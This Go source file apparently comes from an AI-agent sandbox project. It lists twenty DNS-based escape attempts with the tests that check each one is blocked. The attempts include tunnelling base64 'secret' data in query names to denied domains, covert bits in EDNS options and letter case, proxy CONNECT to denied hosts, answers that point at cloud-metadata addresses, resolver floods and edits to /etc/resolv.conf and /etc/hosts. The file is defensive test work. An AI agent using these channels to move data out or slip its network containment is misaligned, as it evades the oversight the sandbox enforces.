package scorecard

import (
	"fmt"
	"math"
	"net/netip"
	"strings"

	"github.com/miekg/dns"

	"github.com/agent-init/agent-init/internal/lab"
)

func dnsAttacks() []Attack {
	return []Attack{
		{ID: "E01", Title: "data in names, to any DNS server",
			Try: []string{"dns 8.8.8.8:53 c2VjcmV0.{bad} A", "dns -tcp 1.1.1.1:53 c2VjcmV0.{bad} TXT", "dns [2001:4860:4860::8888]:53 c2VjcmV0.{bad} AAAA",
				"dns {gw4}:53 c2VjcmV0.{bad} A"},
			Tests: []string{"TestNoTunnelOverOpenDNS"}},
		{ID: "E02", Title: "data in names, through the permitted resolver",
			Try:   []string{"resolve c2VjcmV0.{bad}", "dns {resolver}:53 c2VjcmV0.{bad} A", "dns -tcp {resolver}:53 c2VjcmV0.{bad} TXT"},
			Tests: []string{"TestNoTunnelThroughPermittedResolver"}},
		{ID: "E03", Title: "data in names below an allowed wildcard",
			Try: []string{"dns -n 40 -c 4 {resolver}:53 mfzwk3dmn5xgo43fmnzgk5dbnzsg233smu{n}.{sub} A"}, Judge: belowWildcard,
			Limit: "New names are limited per minute, and odd ones count fourfold. Prefer exact names to wildcards.",
			Tests: []string{"TestTunnelUnderWildcardIsRationed"}},
		{ID: "E04", Title: "a proxy that resolves denied names",
			Try:   []string{`tcp -esc 'CONNECT {bad}:443 HTTP/1.1\r\nHost: {bad}:443\r\n\r\n' {ok4}:80`, `tcp -esc 'GET http://{bad}/ HTTP/1.1\r\nHost: {bad}\r\n\r\n' {ok4}:80`},
			Tests: []string{"TestNothingResolvesDeniedNames"}},
		{ID: "E05", Title: "another resolver, another port",
			Try: []string{"udp {bad4}:5353", "udp {bad4}:5355", "tcp {bad4}:853", "tcp {bad4}:53", "udp {resolver}:5353", "tcp {resolver}:443"},
			// The resolver itself is asked on port 53 only.
			Watch: []string{"udp/{resolver}/5353", "tcp/{resolver}/443"},
			Tests: []string{"TestOtherResolversUnreached"}},
		{ID: "E06", Title: "odd record types as a channel",
			Try: []string{"dns {resolver}:53 {ok} TXT", "dns {resolver}:53 {ok} NULL", "dns {resolver}:53 {ok} ANY", "dns {resolver}:53 {ok} HTTPS", "dns {resolver}:53 {ok} CNAME"},
			Judge: func(e *Evidence) []string {
				return queried(e, func(q lab.Query) string {
					if q.Type == dns.TypeA || q.Type == dns.TypeAAAA {
						return ""
					}
					return "a DNS question of type " + dns.TypeToString[q.Type]
				})
			},
			Tests: []string{"TestExoticTypesUnasked"}},
		{ID: "E07", Title: "bits in the case and the options of questions",
			Try: []string{"dns -edns 65001:c0ffee {resolver}:53 {mixed-case} A"},
			Judge: func(e *Evidence) []string {
				return queried(e, func(q lab.Query) string {
					for _, o := range q.Options() {
						if o.Option() == 65001 {
							return "an option of the agent's in a DNS question"
						}
					}
					if strings.EqualFold(q.Name, e.Setting.Allowed) && q.Name != e.Setting.Allowed {
						return "the agent's choice of case in a DNS question"
					}
					return ""
				})
			},
			Tests: []string{"TestQueryCarriesNoBitsOfTheClient"}},
		{ID: "E08", Title: "several questions in a message, odd operations",
			Try: []string{"dns -raw {two-questions} {resolver}:53", "dns -opcode 5 {resolver}:53 {bad} A", "dns -opcode 4 {resolver}:53 {bad} A",
				"dns -class 3 {resolver}:53 {bad} A"},
			Tests: []string{"TestOddMessagesRefused"}},
	}
}

// answerAttacks are about what a DNS server answers.
func answerAttacks() []Attack {
	return []Attack{
		{ID: "E09", Title: "an allowed name that has a private address",
			Try:     []string{"http -insecure -timeout 1s http://{sub}/"},
			Watch:   []string{"10.66.9.1", "169.254.169.254"},
			Answers: map[string]func(*Setting) lab.Answer{"{sub}": addresses("10.66.9.1", "169.254.169.254")},
			Tests:   []string{"TestPrivateAnswersRefused"}},
		{ID: "E10", Title: "a private address wrapped in IPv6",
			Try:     []string{"http -insecure -timeout 1s http://{sub}/", "http -insecure -timeout 1s https://{sub}/"},
			Watch:   []string{"64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "169.254.169.254", "::a9fe:a9fe"},
			Answers: map[string]func(*Setting) lab.Answer{"{sub}": addresses("64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "::ffff:169.254.169.254", "::a9fe:a9fe")},
			Tests:   []string{"TestWrappedPrivateAnswersRefused"}},
		{ID: "E11", Title: "other records in the answer to an allowed name",
			Try: []string{"resolve {sub}", "tcp {bad4}:443"},
			Answers: map[string]func(*Setting) lab.Answer{"{sub}": func(s *Setting) lab.Answer {
				stray := &dns.A{Hdr: dns.RR_Header{Name: "e11.evil.test.", Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: netip.MustParseAddr("45.31.11.1").AsSlice()}
				return lab.Answer{Addrs: []netip.Addr{netip.MustParseAddr("45.30.0.21")}, Extra: []dns.RR{stray}}
			}},
			Tests: []string{"TestAliasesOpenNothingElse"}},
		{ID: "E12", Title: "answers that fill the sets",
			Try:     []string{"dns -tcp {resolver}:53 {sub} A", "loop -n 400 -c 20 -spread 400 -timeout 500ms 45.33.12.1:443", "resolve e12b.{wildcard}"},
			Answers: map[string]func(*Setting) lab.Answer{"{sub}": many("45.33.12.1", 400)},
			Judge:   tooMany,
			Tests:   []string{"TestStuffedAnswerIsCapped"}},
		{ID: "E13", Title: "odd times to live",
			Try:     []string{"dns {resolver}:53 {sub} A"},
			Answers: map[string]func(*Setting) lab.Answer{"{sub}": forever},
			Judge:   pinned,
			Tests:   []string{"TestTTLIsClamped"}},
		{ID: "E14", Title: "an address that is no longer allowed", Why: "takes minutes",
			Tests: []string{"TestLeaseExpiresWhenNameMoves"}},
		{ID: "E15", Title: "an answer before its rule",
			Try:     []string{"loop -n 40 -c 2 -name a{n}.{sub} :443"},
			Answers: map[string]func(*Setting) lab.Answer{"*.{sub}": spread},
			Judge:   early,
			Tests:   []string{"TestDNSAnswerWaitsForLease"}},
		{ID: "E16", Title: "leases that are not extended", Why: "takes minutes",
			Tests: []string{"TestAnswerExtendsLease"}},
		{ID: "E17", Title: "pooled clients past the lease", Why: "takes minutes",
			Tests: []string{"TestPooledClientOutlivesLease"}},
		{ID: "E18", Title: "floods and slow clients of the resolver",
			Try:   []string{"spawn e18 idle -n 300 -hold 2s {resolver}:53", "dns -n 3000 -c 20 {resolver}:53 {ok} A", "resolve {ok}", "collect e18"},
			Judge: flooded,
			Tests: []string{"TestFloodKeepsNobodyFromAnAnswer"}},
		{ID: "E19", Title: "the engine's own DNS",
			Try:   []string{"dns {engine-dns}:53 c2VjcmV0.{bad} A", "dns -tcp {engine-dns}:53 c2VjcmV0.{bad} A"},
			Tests: []string{"TestEngineResolverUnreached"}},
		{ID: "E20", Title: "edited files of the resolver", Own: true, Won: true,
			Try:   []string{"write -append -data # /etc/resolv.conf", "write -append -data # /etc/hosts", "write -append -data # /etc/nsswitch.conf"},
			Tests: []string{"TestResolverFilesAreRoots"}},
	}
}

// many answers with so many addresses, in order.
func many(first string, n int) func(*Setting) lab.Answer {
	return func(*Setting) lab.Answer {
		a := lab.Answer{Addrs: []netip.Addr{netip.MustParseAddr(first)}}
		for len(a.Addrs) < n {
			a.Addrs = append(a.Addrs, a.Addrs[len(a.Addrs)-1].Next())
		}
		return a
	}
}

// spread gives each question an address that no other has.
func spread(*Setting) lab.Answer {
	return lab.Answer{Addrs: many("45.33.15.1", 250)(nil).Addrs, Rotate: 1}
}

// forever answers with an address that is to be kept for as long as can be said.
func forever(*Setting) lab.Answer {
	return lab.Answer{Addrs: []netip.Addr{netip.MustParseAddr("45.30.0.21")}, TTL: math.MaxInt32}
}

// addresses answers with them, whatever they are.
func addresses(addrs ...string) func(*Setting) lab.Answer {
	return func(*Setting) lab.Answer {
		var a lab.Answer
		for _, s := range addrs {
			a.Addrs = append(a.Addrs, netip.MustParseAddr(s))
		}
		return a
	}
}

// queried collects what find says of the questions that arrived for the allowed
// name.
func queried(e *Evidence, find func(lab.Query) string) []string {
	var out []string
	for _, q := range e.Queries {
		if below(e.Setting.Allowed, q.Name) {
			if s := find(q); s != "" {
				out = append(out, s)
			}
		}
	}
	return out
}

// belowWildcard counts the names that got through: some of them do.
func belowWildcard(e *Evidence) []string {
	names := map[string]bool{}
	for _, q := range e.Queries {
		if e.Setting.Wildcard != "" && below(e.Setting.Wildcard, q.Name) {
			names[dns.CanonicalName(q.Name)] = true
		}
	}
	if len(names) == 0 {
		return nil
	}
	return []string{fmt.Sprintf("%d of 40 names of the agent's making", len(names))}
}
